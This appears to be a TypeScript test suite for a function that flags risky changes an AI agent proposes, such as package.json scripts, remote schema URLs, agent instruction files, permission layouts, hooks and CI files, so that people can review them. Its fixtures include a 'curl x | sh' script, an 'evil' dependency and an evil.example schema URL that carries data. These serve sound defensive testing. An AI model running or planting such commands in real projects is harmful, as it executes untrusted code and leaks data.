import assert from 'node:assert/strict';
import { changeNotes } from '../../../src/workspace/changes/changeNotes.ts';
import { cpuClock } from '../cpuClock.ts';
import { changeIn, never, Sandbox } from '../sandbox.ts';

const json = (value: unknown): string => JSON.stringify(value, null, 2);
const layout = (...rows: readonly string[]): string =>
  `# Here\n\n| Path | Access | What belongs here |\n| --- | --- | --- |\n${rows.join('\n')}\n`;

suite('what a person should know of a change', () => {
  const cases: readonly (readonly [
    string,
    readonly [path: string, before: string | null, after: string | null],
    readonly RegExp[],
  ])[] = [
    [
      '59: scripts, bin and dependencies are named with what they were and become',
      [
        'ws/package.json',
        json({ scripts: { test: 'mocha', old: 'x' }, dependencies: { a: '1' }, bin: './a.js' }),
        json({ scripts: { test: 'curl x | sh' }, dependencies: { a: '1', evil: '2' }, bin: { a: './b.js' } }),
      ],
      [
        /^Changes scripts\.test: "mocha" → "curl x \| sh"$/,
        /^Removes scripts\.old: "x"$/,
        /^Removes bin: "\.\/a\.js"$/,
        /^Adds bin\.a: "\.\/b\.js"$/,
        /^Adds dependencies\.evil: "2"$/,
      ],
    ],
    [
      '59: other keys of a package.json are no reason',
      ['ws/package.json', '{"name":"a"}', '{"name":"b"}'],
      [],
    ],
    [
      '59: a package.json that cannot be read is told',
      ['ws/package.json', '{}', '{"scripts":'],
      [/no valid JSON/],
    ],
    [
      '59: a new package.json counts as a whole',
      ['ws/a/package.json', null, json({ scripts: { preinstall: 'x' } })],
      [/Adds scripts\.preinstall: "x"/],
    ],
    [
      '59: what replaces packages of packages',
      ['ws/package.json', '{}', json({ resolutions: { a: 'b' }, pnpm: { overrides: { a: 'b' } } })],
      [/Adds resolutions\.a: "b"/, /Adds pnpm\.overrides: \{"a":"b"\}/],
    ],
    ['59: a change of a README is none', ['ws/README.md', 'a', 'b'], []],
    [
      '62: the address of a schema that is added',
      ['ws/x/any.json', '{}', '{"$schema": "https://evil.example/?d=abc"}'],
      [/from https:\/\/evil\.example\/\?d=abc$/],
    ],
    [
      '62: an address that is spelled with escapes',
      ['ws/a.json', '{}', '{"\\u0024schema" : "https:\\/\\/e.example"}'],
      [/https:\/\/e\.example/],
    ],
    [
      '62: an address that was there before is not told again',
      ['ws/a.json', '{"$schema":"https://a.b"}', '{"$schema":"https://a.b", "x": 1}'],
      [],
    ],
    ['62: a schema on the disk is no address', ['ws/a.json', null, '{"$schema":"./schema.json"}'], []],
    ['61: instructions of agents', ['ws/docs/AGENTS.md', null, 'x'], [/told from the next run on/]],
    ['61: instructions in any letter case', ['ws/claude.MD', 'a', 'b'], [/told from the next run on/]],
    ['61: rules in folders', ['ws/.cursor/rules/a.mdc', 'a', 'b'], [/told from the next run on/]],
    [
      '61: instructions of Copilot',
      ['ws/.github/copilot-instructions.md', 'a', 'b'],
      [/told from the next run on/, /repository host/],
    ],
    [
      '57: what a layout opens up',
      [
        'ws/WORKSPACE.md',
        layout('| `out/**` | write | |', '| `src/**` | read | |'),
        layout('| `out/**` | write | |', '| `src/**` | write | |'),
      ],
      [/counts from the next run on/, /^Newly open: src\/\*\* \(write\)$/],
    ],
    [
      '57: a layout that is broken',
      ['ws/WORKSPACE.md', null, layout('| `src/**` | maybe | |')],
      [/next run/, /agents could read only/],
    ],
    [
      '56: what an agent profile sets',
      [
        'ws/.muster/agents/a.md',
        '---\nname: a\ntools: [read_file]\n---\nx',
        '---\nname: a\ntools: [read_file, write_file]\ncost_budget_usd: 50\n---\nx',
      ],
      [/trusted the file again/, /^Sets tools: \[read_file, write_file\]$/, /^Sets cost_budget_usd: 50$/],
    ],
    [
      '56: what an agent profile sets in other spellings',
      [
        'ws/.muster/agents/a.md',
        '---\nname: a\ntools:\n  - read_file\n---\nx',
        '---\nname: a\ntools:\n  - read_file\n  - write_file\n"model": b/c\n---\nx',
      ],
      [/trusted the file again/, /^Sets tools: - read_file - write_file$/, /^Sets "model": b\/c$/],
    ],
    ['52: tasks', ['ws/.vscode/tasks.json', null, '{}'], [/^Tasks run commands/]],
    ['52: settings', ['ws/.VSCODE/Settings.json', '{}', '{ }'], [/^Editor settings can name programs/]],
    ['52: workspaces', ['ws/a.code-workspace', '{}', '{ }'], [/^Editor settings/]],
    ['60: hooks', ['ws/.husky/pre-commit', null, 'x'], [/^Git runs this/]],
    ['60: the build server', ['ws/.github/workflows/ci.yml', 'a', 'b'], [/^The build server runs this/]],
    ['60: lockfiles', ['ws/package-lock.json', '{}', '{ }'], [/^Decides which packages/]],
    ['60: makefiles', ['ws/Makefile', null, 'all:'], [/^Its commands run/]],
    ['a long file that is deleted', ['ws/a.txt', 'x\n'.repeat(1234), null], [/^Deletes all 1234 lines\.$/]],
    [
      'a long file that is emptied',
      ['ws/a.txt', 'x\n'.repeat(101), ' \n'],
      [/^Leaves nothing of 101 lines\.$/],
    ],
    ['a short file that is deleted is nothing special', ['ws/a.txt', 'x\n'.repeat(100), null], []],
    ['code that is changed is nothing special', ['ws/src/a.ts', 'a\n', 'b\n'], []],
  ];
  for (const [name, [path, before, after], expected] of cases) {
    test(name, () => {
      const notes = changeNotes(path, before, after);
      assert.equal(notes.length, expected.length, notes.join('\n'));
      for (const [index, pattern] of expected.entries()) assert.match(notes[index] ?? '', pattern);
    });
  }

  test('there are at most six, each at most 200 characters and safe to show', () => {
    const scripts = Object.fromEntries(
      Array.from({ length: 40 }, (_, n) => [`s${n}`, `${'😀'.repeat(300)}\u202e\u001b[2J\n${n}`]),
    );
    const notes = changeNotes('ws/package.json', '{}', json({ scripts }));
    assert.equal(notes.length, 6);
    assert.equal(notes.at(-1), 'And 35 things more to look at.');
    for (const note of notes) assert.ok(note.length <= 200 && !/\p{Cs}/u.test(note), note);
    const [hidden = ''] = changeNotes('ws/package.json', '{}', json({ bin: 'a\u202eb\u200b' }));
    assert.match(hidden, /a<U\+202E>b<U\+200B>/);
  });

  test('hostile texts of 10 MB are answered within two seconds', () => {
    for (const text of [
      '"$schema"'.repeat(1_000_000),
      `$schema${' '.repeat(10_000_000)}`,
      `"$schema"${'/**/'.repeat(140)}x`.repeat(15_000),
      '"$schema" /*'.repeat(800_000),
      '{"$schema":"https:'.repeat(500_000),
      '\\u0024'.repeat(1_500_000),
    ]) {
      const seconds = cpuClock();
      changeNotes('ws/WORKSPACE.md/package.json', text, `${text} `);
      assert.ok(seconds() < 2, `${seconds()} s`);
    }
  });

  test('a proposal carries the notes of each of its files, and none where there are none', async () => {
    const sandbox = new Sandbox();
    try {
      sandbox.put('package.json', '{"scripts":{}}');
      const agent = await sandbox.agent();
      await agent.call('read_file', { path: 'package.json' });
      const patch =
        '*** Begin Patch\n*** Update File: package.json\n@@\n-{"scripts":{}}\n+{"scripts":{"a":"b"}}\n*** Add File: src/a.ts\n+x\n*** End Patch';
      const call = { callId: 'c', overtaken: 'no', together: [] } as const;
      const plan = await agent.tool('patch_file').prepare({ patch }, call, never);
      assert.ok(plan.kind === 'ask');
      const { changes } = changeIn(plan.draft);
      assert.deepEqual(
        changes.map(({ notes }) => notes),
        [['Adds scripts.a: "b"'], undefined],
      );
    } finally {
      sandbox.remove();
    }
  });
});
